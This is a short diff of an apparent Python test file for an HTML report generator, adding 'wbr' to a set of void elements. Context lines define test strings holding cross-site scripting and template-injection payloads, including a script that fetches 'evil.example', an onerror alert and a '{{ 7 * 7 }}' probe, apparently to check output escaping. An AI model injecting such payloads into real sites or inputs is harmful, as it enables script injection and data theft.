@@ -26,7 +26,7 @@ from evaluation.suite import Answer, Figure
 
 TITLE = "Forgetting <people> & *places*"
 WRITE = "import sys; from evaluation.report import write_report as w; w(sys.argv[3:], sys.argv[2], title=sys.argv[1])"
-VOID = {"meta", "link", "br", "img", "input", "hr"}
+VOID = {"meta", "link", "br", "img", "input", "hr", "wbr"}
 HOSTILE_HTML = "</td></script><script>fetch('https://evil.example')</script><img src=x onerror=alert(1)>{{ 7 * 7 }}"
 HOSTILE = (
     "a | b",
